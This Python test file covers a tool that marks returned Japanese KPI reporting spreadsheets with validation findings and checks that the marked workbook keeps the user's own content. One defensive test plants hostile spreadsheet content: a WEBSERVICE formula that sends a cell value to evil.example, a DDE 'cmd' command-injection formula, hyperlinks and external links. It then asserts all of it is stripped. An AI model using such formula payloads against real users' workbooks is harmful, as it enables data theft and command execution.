"""The form that comes back: marked where something is to be mended, otherwise as it was, and with nothing that acts."""

import io
import json
import re
from dataclasses import replace
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import Rule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table

from dxkpi.findings import Fact, Finding, Phrase, make_finding
from dxkpi.plan import Plan
from dxkpi.returns import CheckedReturn, FormColumn, ReturnForm
from dxkpi.returns.checking import check_return
from dxkpi.returns.form_columns import ACTUALS_SHEET, SCHEDULE_SHEET
from dxkpi.wording.findings import finding_text
from dxkpi.wording.language import Language
from dxkpi.workbook import pipe, styling, template
from dxkpi.workbook.marking import mark_workbook
from dxkpi.workbook.reader import WorkbookReader
from dxkpi.workbook.refusals import Refused
from dxkpi.workbook.return_marks import marks_of_return
from tests.support import forms
from tests.support.speaking import speak
from tests.support.workbooks import changed_workbook, read_form


def noticed(
    code: str,
    cell: str,
    sheet: str = ACTUALS_SHEET,
    value: str | None = None,
    **facts: Fact,
) -> Finding:
    return Finding(code, sheet=sheet, cell=cell, value=value, facts=facts)


BLANK = noticed("blank", "K9")
RANGE = noticed("range", "K9", value="1～2")
BELOW_ZERO = noticed("negative", "K6", value="-1", before=Phrase.NO_EARLIER_FIGURE)
FOUND = (BLANK, RANGE, BELOW_ZERO, noticed("read_as", "K7", value="７", read="7"))


def sentence(finding: Finding) -> str:
    return finding_text(finding, Language.JAPANESE)


@pytest.fixture
def form(sample_plan: Plan) -> ReturnForm:
    return ReturnForm(sample_plan, 2025, "人事課", 7, 2025)


@pytest.fixture
def filled_in(form: ReturnForm) -> bytes:
    return forms.fill(
        template.form_workbook(form),
        {"K13": {FormColumn.VALUE: 101.2}, "K18": {FormColumn.VALUE: "集計中"}},
    )


def mark(content: bytes, form: ReturnForm, found: tuple[Finding, ...] = FOUND) -> bytes:
    """As the reader's process does it, with what JSON leaves of the request."""
    answer = CheckedReturn(form, found, (), {}, {})
    request = marks_of_return(answer, read_form(content))
    header = json.loads(json.dumps(pipe.request_to_json(request)))
    received = pipe.request_from_json(header)
    assert received == request
    return mark_workbook(content, request.marks, request.aids)


def sheet_of(content: bytes, name: str = ACTUALS_SHEET) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))[name]


def everything(content: bytes) -> str:
    with ZipFile(io.BytesIO(content)) as parts:
        return "\n".join(
            f"{name}\n{parts.read(name).decode()}" for name in parts.namelist()
        )


def test_the_cells_are_coloured_and_say_why(form: ReturnForm, filled_in: bytes) -> None:
    sheet = sheet_of(mark(filled_in, form))
    assert sheet["K9"].fill.start_color.rgb.endswith(styling.ERROR)
    assert sheet["K9"].border.left.color.rgb.endswith(styling.ERROR_EDGE)
    assert sheet["K6"].fill.start_color.rgb.endswith(styling.HELD)
    assert sheet["K7"].fill.start_color.rgb.endswith(styling.INPUT)
    assert (
        sheet["K9"].comment.text
        == f"【確認結果】\n× {sentence(BLANK)}\n△ {sentence(RANGE)}"
    )
    assert sheet["P5"].value == styling.RESULT_HEADING
    assert sheet["P9"].value == f"× K9 {sentence(BLANK)}\n△ K9 {sentence(RANGE)}"
    assert sheet["A3"].value == (
        "× 赤いセル1か所を直し、もう一度登録してください。△ 濃い黄色のセル1か所は登録の画面で確かめられます。"
        "理由は右端の「確認結果」とセルのコメントにあります。"
    )
    assert sheet.print_area == "'実績'!$A$1:$P$12"


def test_what_concerns_no_cell_is_said_above_the_table(
    form: ReturnForm, filled_in: bytes
) -> None:
    twice = make_finding(
        "column_twice", sheet=SCHEDULE_SHEET, heading="進捗", cells="F5、G5"
    )
    which_year = make_finding("which_year")
    marked_ = mark(filled_in, form, (twice, which_year))
    assert sheet_of(marked_)["A3"].value == f"× {sentence(which_year)}"
    assert sheet_of(marked_, SCHEDULE_SHEET)["A3"].value == f"× {sentence(twice)}"
    assert sheet_of(marked_)["P5"].value is None


def test_what_was_filled_in_is_not_changed(form: ReturnForm, filled_in: bytes) -> None:
    before, after = sheet_of(filled_in), sheet_of(mark(filled_in, form))
    for row in before.iter_rows(min_row=6, max_row=10, max_col=13):
        for cell in row:
            assert after[cell.coordinate].value == cell.value
            assert after[cell.coordinate].number_format == cell.number_format
            assert after[cell.coordinate].protection.locked == cell.protection.locked


def test_the_reader_gives_it_back_and_reads_the_same_again(
    form: ReturnForm, filled_in: bytes, reader: WorkbookReader
) -> None:
    before = reader.read_form(filled_in)
    given_back = reader.mark_form(filled_in, check_return(form, before))
    after = reader.read_form(given_back)
    assert (after.rows, after.entry_rows, after.origin) == (
        before.rows,
        before.entry_rows,
        before.origin,
    )
    twice = reader.mark_form(given_back, check_return(form, after))
    once, again = sheet_of(given_back), sheet_of(twice)
    assert [[cell.value for cell in row] for row in once.iter_rows()] == [
        [cell.value for cell in row] for row in again.iter_rows()
    ]


def test_their_own_formatting_and_comments_are_kept(
    form: ReturnForm, filled_in: bytes
) -> None:
    def work(book: Any) -> None:
        sheet = book[ACTUALS_SHEET]
        sheet["O8"].font = Font(name="Meiryo", italic=True, size=14)
        sheet["O8"].fill = PatternFill("solid", start_color="CCFFCC")
        sheet["O8"].comment = Comment("あとで確認", "山田")
        sheet["K9"].comment = Comment("数えなおす", "山田")
        sheet.column_dimensions["O"].width = 77
        book.create_sheet("メモ")["B2"] = "集計の元"

    once = mark(changed_workbook(filled_in, work), form)
    after = sheet_of(once)
    assert (after["O8"].font.name, after["O8"].font.italic) == ("Meiryo", True)
    assert after["O8"].fill.start_color.rgb.endswith("CCFFCC")
    assert after["O8"].comment.text == "あとで確認"
    assert after["K9"].comment.text.startswith("数えなおす\n【確認結果】\n×")
    assert after.column_dimensions["O"].width == 77
    assert sheet_of(once, "メモ")["B2"].value == "集計の元"
    assert sheet_of(mark(once, form, ()))["K9"].comment.text == "数えなおす"


def test_a_second_round_takes_the_first_marks_away(
    form: ReturnForm, filled_in: bytes
) -> None:
    again = sheet_of(mark(mark(filled_in, form), form, FOUND[2:]))
    assert again["K9"].comment is None
    assert again["K9"].fill.start_color.rgb.endswith(styling.INPUT)
    assert again["P9"].value is None
    assert [cell.value for cell in again[5]].count(styling.RESULT_HEADING) == 1


def test_a_mended_form_looks_as_it_did_when_it_was_new(
    form: ReturnForm, filled_in: bytes
) -> None:
    fresh, after = sheet_of(filled_in), sheet_of(mark(mark(filled_in, form), form, ()))
    assert after["A3"].value == fresh["A3"].value
    for row in fresh.iter_rows():
        for cell in row:
            other = after[cell.coordinate]
            for style in (
                "fill",
                "border",
                "font",
                "alignment",
                "protection",
                "number_format",
            ):
                assert repr(getattr(other, style)) == repr(getattr(cell, style)), (
                    cell.coordinate,
                    style,
                )
    assert {cell.value for cell in after["P"]} == {None}


def test_dropdowns_colours_and_the_judging_formula_are_there_again(
    form: ReturnForm, filled_in: bytes
) -> None:
    fresh_form, marked_form = template.form_workbook(form), mark(filled_in, form)
    for name in (ACTUALS_SHEET, SCHEDULE_SHEET):
        fresh, after = sheet_of(fresh_form, name), sheet_of(marked_form, name)
        assert [after.cell(row, 14).value for row in range(6, 11)] == [
            fresh.cell(row, 14).value for row in range(6, 11)
        ]
        rules = [
            [
                (str(one.sqref), one.type, one.formula1, one.prompt)
                for one in sheet.data_validations.dataValidation
            ]
            for sheet in (fresh, after)
        ]
        assert rules[0] == rules[1]
        areas = [
            [
                (str(area.sqref), area.rules[0].formula)
                for area in sheet.conditional_formatting
            ]
            for sheet in (fresh, after)
        ]
        assert areas[0] == areas[1]


def test_nothing_of_theirs_that_acts_is_given_back(
    form: ReturnForm, filled_in: bytes
) -> None:
    def arm(book: Any) -> None:
        sheet = book[ACTUALS_SHEET]
        sheet["O6"] = '=WEBSERVICE("http://evil.example/?"&K6)'
        sheet["O7"] = "=cmd|' /C calc'!A0"
        sheet["O8"] = "資料"
        sheet["O8"].hyperlink = "http://evil.example/link"
        sheet["O9"].hyperlink = "http://evil.example/empty"
        sheet["O9"].value = None
        sheet["Q20"] = "=[1]evil!A1"
        sheet.add_data_validation(
            DataValidation(type="custom", formula1='=evil("x")', sqref="K6")
        )
        sheet.conditional_formatting.add(
            "A1:B2", Rule(type="expression", formula=["evil(1)"])
        )
        book.defined_names["evil_name"] = DefinedName(
            "evil_name", attr_text="[1]evil!$A$1"
        )
        sheet.defined_names["evil_local"] = DefinedName(
            "evil_local", attr_text="[1]evil!$A$1"
        )
        other = book.create_sheet("evil table")
        for row in (("evil a", "b"), (1, 2)):
            other.append(row)
        other.add_table(Table(displayName="evil_table", ref="A1:B2"))
        chart = BarChart()
        chart.add_data(
            Reference(range_string="'evil table'!$B$1:$B$2"), titles_from_data=True
        )
        other.add_chart(chart)
        book.create_chartsheet("evil chart")
        book.loaded_theme = b'<?xml version="1.0"?><a:theme xmlns:a="x" xmlns:r="y"><a:blip r:link="evil"/></a:theme>'

    text = everything(mark(changed_workbook(filled_in, arm), form))
    assert "evil" not in text.replace('name="evil table"', "").replace("evil a<", "")
    assert "cmd|" not in text
    assert not re.search(
        r"externalLink|vbaProject|/charts/|/tables/|/drawings/drawing", text
    )
    assert "hyperlink" not in text
    formulas = re.findall(r"<f>(.*?)</f>", text)
    assert formulas
    assert all(formula.startswith(("IF(ISNUMBER(", "IF($K")) for formula in formulas)


def test_a_formula_comes_back_as_its_last_result(
    form: ReturnForm, filled_in: bytes
) -> None:
    with_formula = changed_workbook(
        filled_in, lambda book: book[ACTUALS_SHEET].__setitem__("K10", "=8+9")
    )
    with ZipFile(io.BytesIO(with_formula)) as old:
        saved = io.BytesIO()
        with ZipFile(saved, "w") as new:
            for name in old.namelist():
                new.writestr(
                    name,
                    re.sub(
                        rb"<f>8\+9</f><v ?/>", b"<f>8+9</f><v>17</v>", old.read(name)
                    ),
                )
    cell = sheet_of(mark(saved.getvalue(), form))["K10"]
    assert (cell.value, cell.data_type) == (17, "n")


def test_text_that_looks_like_a_formula_stays_text(
    form: ReturnForm, filled_in: bytes
) -> None:
    def write(book: Any) -> None:
        book[ACTUALS_SHEET]["O6"] = "=1+1"
        book[ACTUALS_SHEET]["O6"].data_type = "s"

    found = (
        *FOUND,
        noticed("not_a_number", "K8", value="=2+2\x01"),
    )
    sheet = sheet_of(mark(changed_workbook(filled_in, write), form, found))
    assert (sheet["O6"].value, sheet["O6"].data_type) == ("=1+1", "s")
    assert "_x0001_" in sheet["P8"].value


def test_rows_and_columns_that_were_moved_are_marked_where_they_are(
    form: ReturnForm, filled_in: bytes
) -> None:
    def move(book: Any) -> None:
        book[ACTUALS_SHEET].insert_cols(1, 2)
        book[ACTUALS_SHEET].insert_rows(1, 3)

    moved = (noticed("blank", "M12"),)
    after = sheet_of(mark(changed_workbook(filled_in, move), form, moved))
    assert after["R8"].value == styling.RESULT_HEADING
    assert after["R12"].value.startswith("× M12")
    assert after["P9"].value.startswith("=IF(ISNUMBER($M9)")
    assert after["C6"].value.startswith("× 赤いセル1か所")


def test_a_table_of_their_own_is_marked_without_moving_anything(
    form: ReturnForm,
) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "報告"
    sheet.append(["番号", "実績", "備考のようなもの"])
    sheet.append(["K13", "集計中", None, "欄外のメモ"])
    saved = io.BytesIO()
    book.save(saved)
    found = (noticed("blank", "B2", "報告"),)
    after = sheet_of(mark(saved.getvalue(), form, found), "報告")
    assert (after["B2"].value, after["D2"].value) == ("集計中", "欄外のメモ")
    assert after["E2"].value.startswith("× B2")
    assert after["B2"].comment.text.startswith("【確認結果】")
    assert after["A1"].value == "番号"


def test_a_merged_cell_is_marked_where_its_value_stands(
    form: ReturnForm, filled_in: bytes
) -> None:
    def merge(book: Any) -> None:
        for area in ("K9:K10", "N6:N8", "P9:Q12"):
            book[ACTUALS_SHEET].merge_cells(area)

    merged = changed_workbook(filled_in, merge)
    found = (noticed("blank", "K10"),)
    after = sheet_of(mark(merged, form, found))
    assert after["K9"].fill.start_color.rgb.endswith(styling.ERROR)
    assert after["P9"].value.startswith("× K9")


def test_a_workbook_that_does_not_open_in_full_comes_back_with_its_values(
    form: ReturnForm, filled_in: bytes
) -> None:
    with ZipFile(io.BytesIO(filled_in)) as old:
        saved = io.BytesIO()
        with ZipFile(saved, "w") as new:
            for name in old.namelist():
                new.writestr(
                    name, b"<broken" if name == "docProps/core.xml" else old.read(name)
                )
    sheet = sheet_of(mark(saved.getvalue(), form))
    assert (sheet["K9"].value, sheet["K6"].value) == ("集計中", 101.2)
    assert sheet["P9"].value.startswith("× K9")


def test_what_is_no_workbook_at_all_is_refused() -> None:
    with pytest.raises((Refused, KeyError, OSError)):
        mark_workbook(b"PK\x03\x04nothing", [], [])


def test_its_words_are_japanese_on_an_english_screen(
    form: ReturnForm, filled_in: bytes
) -> None:
    speak("en")
    assert sheet_of(mark(filled_in, replace(form)))["A3"].value.startswith("× 赤いセル")


def test_a_form_whose_codes_are_written_in_full_width_letters_is_dressed_again(
    sample_plan: Plan,
) -> None:
    own = sample_plan.indicators[0].model_copy(update={"code": "Ｋ①"})
    form = ReturnForm(
        sample_plan.model_copy(update={"indicators": (own,)}), 2025, None, 7, 2025
    )
    fresh = template.form_workbook(form)
    assert sheet_of(mark(fresh, form))["N6"].value == sheet_of(fresh)["N6"].value


def test_a_row_that_the_plan_does_not_know_is_not_taken_for_the_headings(
    form: ReturnForm, filled_in: bytes
) -> None:
    strange = changed_workbook(
        filled_in, lambda book: book[ACTUALS_SHEET].__setitem__("A6", "K99")
    )
    found = (noticed("unknown_code", "A6", value="K99"),)
    after = sheet_of(mark(strange, form, found))
    assert after["P5"].value == styling.RESULT_HEADING
    assert after["P6"].value == f"× A6 {sentence(found[0])}"
    mended = sheet_of(mark(mark(strange, form, found), form, ()))
    assert mended["A6"].fill.fill_type is None


def test_a_column_of_their_own_with_our_heading_is_left_alone(
    form: ReturnForm, filled_in: bytes
) -> None:
    def check_themselves(book: Any) -> None:
        book[ACTUALS_SHEET]["P5"] = styling.RESULT_HEADING
        book[ACTUALS_SHEET]["P9"] = "課長確認済み"

    after = sheet_of(mark(changed_workbook(filled_in, check_themselves), form))
    assert after["P9"].value == "課長確認済み"
    assert after["Q9"].value.startswith("× K9")
